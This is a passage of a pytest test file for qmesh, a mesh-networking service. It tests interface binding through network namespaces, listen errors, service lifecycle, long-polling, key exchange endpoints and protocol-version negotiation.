    with service(Agent(), address="10.88.0.1", interface="tunnel"), pytest.raises(ControlNodeUnavailable):
        membership(address="10.88.0.1")
    with service(Agent(), address="10.88.0.1", interface="lo"):
        assert membership(address="10.88.0.1") == b'{"members": 2}'
    # To Linux, what a machine says to an address of its own comes by the interface that has the address.
    with service(Agent(), address="10.77.0.1", interface="tunnel"):
        assert membership(address="10.77.0.1") == b'{"members": 2}'


ASK = """
import sys
from qmesh.host.api.client import Client
from qmesh.host.api.messages import ControlNodeUnavailable
client = Client(address="10.77.0.1", port=51820)
try:
    print(client.poll_membership(newer_than=0, connect_s=2, read_s=5).decode())
except ControlNodeUnavailable:
    print("silent")
"""


@contextlib.contextmanager
def neighbour() -> Iterator[Callable[[str], str]]:
    """A machine that is joined to this one by `tunnel` and by `lan`; it asks by one of them."""
    with subprocess.Popen(["unshare", "--net", "sleep", "1000"]) as there:
        own = Path("/proc/self/ns/net").readlink()
        wait_until(lambda: Path(f"/proc/{there.pid}/ns/net").readlink() != own)
        inside = ["nsenter", f"--net=/proc/{there.pid}/ns/net"]
        for name, network in (("tunnel", "10.77.0"), ("lan", "192.168.7")):
            ip("link", "add", name, "type", "veth", "peer", "name", f"p-{name}")
            ip("link", "set", f"p-{name}", "netns", str(there.pid))
            ip("address", "add", f"{network}.1/24", "dev", name)
            ip("link", "set", name, "up")
            for words in (f"address add {network}.2/24 dev p-{name}", f"link set p-{name} up"):
                subprocess.run([*inside, "ip", *words.split()], check=True)

        def by(name: str) -> str:
            route = (
                "dev p-tunnel src 10.77.0.2"
                if name == "tunnel"
                else "via 192.168.7.1 dev p-lan src 192.168.7.2"
            )
            subprocess.run([*inside, "ip", "route", "replace", "10.77.0.1/32", *route.split()], check=True)
            told = subprocess.run(
                [*inside, sys.executable, "-c", ASK], check=True, capture_output=True, text=True
            )
            return told.stdout.strip()

        try:
            yield by
        finally:
            there.kill()


def test_e2_the_service_is_reached_through_the_tunnel_alone_and_knows_who_asks():
    agent = Agent()
    with neighbour() as by:
        with service(agent, address="10.77.0.1", interface="tunnel"):
            assert [by("tunnel"), by("lan"), by("tunnel")] == ['{"members": 2}', "silent", '{"members": 2}']
        assert agent.asked == [("membership", 0, "10.77.0.2")] * 2

        # The way that was silent is a way: were the service there, it would be reached.
        with service(agent, address="10.77.0.1", interface="lan"):
            assert by("lan") == '{"members": 2}'
    assert agent.asked[2:] == [("membership", 0, "192.168.7.2")]


@pytest.mark.parametrize(
    ("address", "interface", "why"),
    [
        ("127.0.0.1", "no-such", "No such device"),
        ("10.77.0.1", "lo", "Cannot assign requested address"),
        ("fd00::1", "lo", "Cannot assign requested address"),
    ],
)
def test_where_it_cannot_listen_it_says_why(address, interface, why):
    with pytest.raises(KernelRefused, match=f"cannot listen on {address} port 51820: {why}") as refused:
        Service(Agent(), told=told_by(), address=address, port=PORT, interface=interface)

    assert "ss -ltnp" in refused.value.hint


def test_a_port_that_another_has_is_refused():
    with (
        socket.create_server((HERE, PORT)),
        pytest.raises(KernelRefused, match="Address already in use"),
    ):
        Service(Agent(), told=told_by(), address=HERE, port=PORT, interface="lo")


def threads() -> list[str]:
    return [thread.name for thread in threading.enumerate() if thread.name == "membership service"]


def is_free() -> bool:
    with socket.create_server((HERE, PORT)):
        return True


def test_a1_a_service_that_serves_answers_its_own_machine_through_the_kernel():
    agent = Agent()
    with service(agent) as found:
        found.probe(wait_s=10)
    assert agent.refreshed == 1


def test_what_a_machine_asks_of_itself_is_no_answer_to_another():
    with service(Agent()):
        answer = ask("GET", messages.HEALTH, address="127.0.0.2")
    assert answer.status == 404


def test_a1_a_service_that_hangs_is_known_by_its_silence():
    hangs = threading.Event()
    agent = Agent()
    agent.refresh_membership = hangs.wait  # type: ignore[assignment, method-assign]
    with service(agent) as found:
        try:
            with pytest.raises(ServiceUnresponsive, match="does not answer"):
                found.probe(wait_s=0.3)
        finally:
            hangs.set()


def test_a1_a_service_that_cannot_serve_says_why():
    def refuse() -> None:
        raise MachineRefused("the registry is away", hint="restore it")

    agent = Agent()
    agent.refresh_membership = refuse  # type: ignore[method-assign]
    with service(agent) as found, pytest.raises(MachineRefused, match="the registry is away") as refused:
        found.probe(wait_s=10)
    assert refused.value.message == 'it answers: "the registry is away" (its hint: "restore it")'
    assert refused.value.hint.startswith("see the agent's log")


def test_a1_a_service_that_is_not_reached_is_told_apart_from_one_that_is_silent():
    found = Service(Agent(), address=HERE, port=PORT, interface="lo", told=told_by())
    found._socket.shutdown(socket.SHUT_RDWR)  # it listens no more
    with pytest.raises(KernelRefused, match="is unreachable"):
        found.probe(wait_s=10)
    found.stop()


def test_a1_a_task_of_it_that_fails_ends_it_and_who_keeps_it_is_told():
    ended = threading.Event()

    def fail() -> None:
        raise ZeroDivisionError

    agent = Agent()
    agent.refresh_membership = fail  # type: ignore[method-assign]
    found = Service(agent, address=HERE, port=PORT, interface="lo", told=told_by(), ended=ended.set)
    found.start()
    with within(30):
        while not ended.wait(0.05):
            found.announce_change()
    assert isinstance(found.failure, ZeroDivisionError)
    found.stop()


def test_it_lives_from_start_to_stop():
    found = Service(Agent(), told=told_by(), address=HERE, port=PORT, interface="lo")

    assert (found.is_alive, threads()) == (False, [])

    found.start()

    assert membership() == b'{"members": 2}'
    assert (found.is_alive, threads()) == (True, ["membership service"])

    found.stop()

    assert (found.is_alive, threads()) == (False, [])
    assert is_free()
    with pytest.raises(ControlNodeUnavailable):
        membership()


def test_a_service_that_was_never_started_is_stopped_and_frees_its_port():
    found = Service(Agent(), told=told_by(), address=HERE, port=PORT, interface="lo")
    found.stop()
    found.stop()

    assert is_free()


def test_it_is_stopped_at_once_after_it_was_started():
    for _ in range(5):
        found = Service(Agent(), told=told_by(), address=HERE, port=PORT, interface="lo")
        found.start()
        found.stop()

        assert threads() == []
        assert is_free()


def test_slow_clients_do_not_keep_it_from_stopping():
    found = Service(Agent(), told=told_by(), address=HERE, port=PORT, interface="lo")
    found.start()
    with contextlib.ExitStack() as stack:
        membership()
        for begin in BEGINNINGS * 2:
            stack.enter_context(socket.create_connection((HERE, PORT), timeout=patience(5))).sendall(begin)
        with within(5):
            found.stop()
        assert threads() == []
    with service(Agent()):
        assert membership() == b'{"members": 2}'


def test_what_is_being_answered_is_answered_before_it_stops():
    begun = threading.Event()

    def late(_: bytes) -> bytes:
        begun.set()
        pause(0.5)
        return b"late"

    found = Service(Agent(redeem=late), told=told_by(), address=HERE, port=PORT, interface="lo")
    found.start()
    answers: list[bytes] = []
    waiting = threading.Thread(target=lambda: answers.append(redeem()))
    waiting.start()
    begun.wait(10)
    found.stop()
    waiting.join()

    assert answers == [b"late"]


def test_a_service_that_comes_after_another_is_reached_by_who_knew_the_first():
    asking = client()
    for _ in range(3):
        with service(Agent()):
            assert (
                asking.poll_membership(newer_than=0, connect_s=PLENTY_S, read_s=PLENTY_S) == b'{"members": 2}'
            )
        with pytest.raises(ControlNodeUnavailable):
            asking.poll_membership(newer_than=0, connect_s=PLENTY_S, read_s=PLENTY_S)


def test_the_access_of_members_is_not_logged(caplog, capfd):
    caplog.set_level(logging.DEBUG)
    with service(Agent()):
        redeem()
        ask("GET", "/v1/membership?newer_than=5ec2e7")

    assert not [record for record in caplog.records if record.name != "asyncio"]
    assert capfd.readouterr() == ("", "")


def wait_for_news(*, wait_s: int = 20) -> bytes | None:
    return client().poll_membership(newer_than=3, connect_s=PLENTY_S, read_s=PLENTY_S, wait_s=wait_s)


def told(place: Path) -> tuple[socket.socket, Callable[[], bool]]:
    """What the service listens on, and how it is told."""
    return agent_notify.listen(place), lambda: agent_notify.notify_agent(place, wait_s=10)


def answering_after(change: threading.Event) -> Agent:
    return Agent(membership=lambda _: b"news" if change.is_set() else None)


def test_who_waits_gets_what_is_new_once_the_service_is_told(tmp_path):
    listening, tell = told(tmp_path)
    change, found = threading.Event(), []
    agent = answering_after(change)
    with service(agent, told=listening):
        waiting = [threading.Thread(target=lambda: found.append(wait_for_news())) for _ in range(7)]
        for thread in waiting:
            thread.start()
        wait_until(lambda: len(agent.asked) == 7, 10)
        assert tell()  # nothing new: nobody is answered, and all wait on
        assert found == []
        change.set()
        assert tell()
        for thread in waiting:
            thread.join()
    assert found == [b"news"] * 7


def test_who_waits_in_vain_is_told_so():
    begun = time.monotonic()
    with service(answering_after(threading.Event())):
        assert wait_for_news(wait_s=1) is None
    assert time.monotonic() - begun >= 1


def test_a_service_that_ends_keeps_nobody_waiting():
    found = []
    with service(answering_after(threading.Event())) as ending:
        waiting = threading.Thread(target=lambda: found.append(wait_for_news()))
        waiting.start()
        idle(0.5)
        with within(10):
            ending.stop()
            waiting.join()
    assert found == [None]


def test_a_hundred_changes_at_once_are_looked_for_a_few_times(tmp_path):
    listening, tell = told(tmp_path)
    agent = answering_after(threading.Event())
    with service(agent, told=listening):
        telling_threads = [threading.Thread(target=tell) for _ in range(100)]
        for thread in telling_threads:
            thread.start()
        for thread in telling_threads:
            thread.join()
    assert 1 <= agent.refreshed < 20


def test_e7_the_teller_waits_until_a_departed_machine_has_hung_up(tmp_path):
    listening, tell = told(tmp_path)
    change, found = threading.Event(), []
    agent = answering_after(change)
    with service(agent, told=listening):
        waiting = threading.Thread(target=lambda: found.append(wait_for_news()))
        waiting.start()
        wait_until(lambda: agent.asked, 10)
        agent.leaving = frozenset({HERE})
        change.set()
        assert tell()
        assert agent.asked[-1] == ("membership", 3, HERE)
        waiting.join()
        # One that never hangs up is waited for a moment only.
        with socket.create_connection((HERE, PORT)):
            assert tell()
    assert found == [b"news"]


def test_nobody_is_told_where_no_agent_is(tmp_path):
    listening, tell = told(tmp_path)
    assert (tmp_path / agent_notify.SOCKET).stat().st_mode & 0o777 == 0o600
    listening.close()
    assert not tell()
    (tmp_path / agent_notify.SOCKET).unlink()
    assert not tell()
    assert not agent_notify.notify_agent(tmp_path / "nowhere", wait_s=1)


def test_a_key_is_offered_by_who_is_known_by_its_address():
    agent = Agent()
    with service(agent):
        client().offer_key(b"sealed", connect_s=PLENTY_S, read_s=PLENTY_S)
        assert ask("GET", "/v1/keys").status == 405
        assert ask("POST", "/v1/keys", content=b"x" * (messages.MAX_BODY + 1)).status == 413
    assert agent.asked == [("offer_key", b"sealed", HERE)]


def test_the_nodes_files_and_reports_of_its_keys_pass_as_they_are():
    agent = Agent(redeem=lambda body: body[::-1])
    with service(agent):
        assert client().fetch_node_files(b"sealed", connect_s=PLENTY_S, read_s=PLENTY_S) == b"delaes"
        client().report_keys(b"digests", connect_s=PLENTY_S, read_s=PLENTY_S)
        client().poll_membership(newer_than=5, connect_s=PLENTY_S, read_s=PLENTY_S, key_report=b"same")
        ask("GET", "/v1/membership", headers={"qmesh-key-digests": "no base64!"})
        noting = Client(address=HERE, port=PORT, note=MemberNote(is_down=True))
        noting.poll_membership(newer_than=5, connect_s=PLENTY_S, read_s=PLENTY_S)
        ask("GET", "/v1/membership", headers={"qmesh-note": "x" * 2 * MOST_CHARACTERS})
        for path in ("/v1/node-files", "/v1/node-keys"):
            assert ask("GET", path).status == 405
            assert ask("POST", path, content=b"x" * (messages.MAX_BODY + 1)).status == 413
    asked = [each for each in agent.asked if each[0] != "membership"]
    assert asked == [
        ("node files", b"sealed", HERE),
        ("report keys", b"digests", HERE),
        ("key report", b"same", HERE),
        ("note", "down", HERE),
        ("note", "x" * MOST_CHARACTERS, HERE),
    ]


def test_facts_of_a_machine_pass_as_they_are_with_the_first_question_alone():
    agent = Agent()
    most = bytes(range(256)) * (MOST_SEALED // 256)
    with service(agent):
        telling = Client(address=HERE, port=PORT, facts=most)
        for _ in range(2):
            telling.poll_membership(
                newer_than=5, connect_s=PLENTY_S, read_s=PLENTY_S, holds=bytes(60), key_report=b"k"
            )
        assert ask("GET", "/v1/membership", headers={"qmesh-facts": "no base64!"}).status == 200
    assert [each for each in agent.asked if each[0] == "facts"] == [("facts", most, HERE)]


def test_a_question_with_a_header_of_a_later_version_is_answered():
    """So an older control node hears what it understands of a newer member."""
    agent = Agent()
    with service(agent):
        asked = ask(
            "GET", "/v1/membership?newer_than=5", headers={"qmesh-later": "x" * 4000, "qmesh-note": "down"}
        )
    assert (asked.status, agent.asked) == (200, [("note", "down", HERE), ("membership", 5, HERE)])


def be_of(monkeypatch: pytest.MonkeyPatch, side: Any, spoken: SpokenProtocol) -> None:
    """Have one side, the client's module or the service's, be of a version of qmesh that speaks this."""
    monkeypatch.setattr(side, "encode_protocol", lambda: encode_protocol(spoken))
    monkeypatch.setattr(side, "is_understood", lambda other: is_understood(other, spoken))
    monkeypatch.setattr(side, "ProtocolsApart", partial(ProtocolsApart, own=spoken))


LATER = SpokenProtocol(OWN.newest + 2, OWN.newest + 1, "9.0.0")


@pytest.mark.parametrize(("side", "older"), [(answers, "the control node"), (dispatch, "this machine")])
def test_a_machine_that_is_not_understood_is_told_which_of_the_two_to_update(monkeypatch, side, older):
    be_of(monkeypatch, side, LATER)
    agent = Agent()
    with service(agent):
        telling = Client(address=HERE, port=PORT, facts=b"sealed")
        with pytest.raises(ProtocolsApart) as apart:
            telling.poll_membership(newer_than=5, connect_s=PLENTY_S, read_s=PLENTY_S, holds=b"sealed")
    # By the facts, which every version understands, `check` on the control node says so too: it is not silent
    assert agent.asked == [("facts", b"sealed", HERE), ("question", HERE)]
    assert apart.value.spoken == (LATER if side is dispatch else OWN)
    assert apart.value.hint == f"update qmesh on {older}, to 9.0.0 or newer"


def test_a_version_that_says_nothing_of_what_it_speaks_reads_why_it_is_refused(monkeypatch):
    be_of(monkeypatch, dispatch, LATER)
    monkeypatch.setattr(answers, "is_understood", lambda _: True)
    agent = Agent()
    with service(agent), pytest.raises(EnrolmentRefused) as refused:
        redeem()
    assert "update qmesh on the machine that asks, to 9.0.0 or newer" in refused.value.message
    assert agent.asked == []


def test_what_is_spoken_is_said_with_every_answer_and_need_not_be_said_by_who_asks():
    with service(Agent()):
        for path in ("/v1/membership?newer_than=5", "/nowhere", "/v1/health", "/v1/keys"):
            said = ask("GET", path).speaks
            assert said is not None
            assert decode_protocol(said.encode()) == OWN
        assert ask("POST", "/v1/redemptions", content=b"{}").status == 200


@pytest.mark.parametrize("estate", [b"all of it", None])
def test_a_successor_says_how_far_it_is_and_is_given_what_it_lacks(estate):
    agent = Agent(redeem=lambda _: estate or b"")
    with service(agent):
        assert client().report_handover(b"sealed", connect_s=PLENTY_S, read_s=PLENTY_S) == estate
        assert ask("GET", "/v1/succession").status == 405
    assert agent.asked == [("succeed", b"sealed", HERE)]


@pytest.mark.parametrize("error", [EnrolmentRefused("no", hint="why"), MachineRefused("busy", hint="later")])
def test_a_key_that_is_refused_is_told_so(error):
    def no(_: bytes) -> bytes:
        raise error

    told_as = EnrolmentRefused if isinstance(error, EnrolmentRefused) else ControlNodeUnavailable
    with service(Agent(redeem=no)), pytest.raises(told_as):
        client().offer_key(b"sealed", connect_s=PLENTY_S, read_s=PLENTY_S)
